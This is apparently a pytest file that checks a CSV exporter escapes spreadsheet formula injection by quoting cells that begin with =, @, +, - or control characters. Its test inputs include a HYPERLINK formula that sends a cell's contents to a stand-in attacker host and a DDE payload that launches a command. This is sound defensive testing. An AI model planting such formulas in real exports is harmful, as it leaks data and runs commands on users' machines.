"""Every CSV export neutralises text a spreadsheet would run as a formula (OWASP's rule)."""

import csv
import io

import pytest

from gateway.renderers import report_csv
from gateway.renderers.spreadsheet import SafeCsvWriter, safe_cell


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Ver")', "@SUM(A1:A9)", "+1+1",
     "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "+51987654321"],
)
def test_text_that_would_start_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["uso 5", "", " =1", "ABC123", "2026-W48", 5, -2.5, 0, None, True]
)
def test_everything_else_is_left_as_it_is(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_text_cell_and_keeps_numbers() -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([["=1+1", -3, -0.25, "ok"], ["@x", "-", 7, ""]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=1+1", "-3", "-0.25", "ok"], ["'@x", "'-", "7", ""]
    ]


def test_the_report_csv_keeps_negative_figures_numeric_and_neutralises_text() -> None:
    report = {"total_tco2e": -1.5, "notes": ["-sin visitas", "ok"], "by_district": []}
    lines = list(csv.reader(io.StringIO(report_csv.render(report))))
    assert ["summary", "", "total_tco2e", "-1.5"] in lines
    assert ["notes", "1", "note", "'-sin visitas"] in lines
    assert ["notes", "2", "note", "ok"] in lines
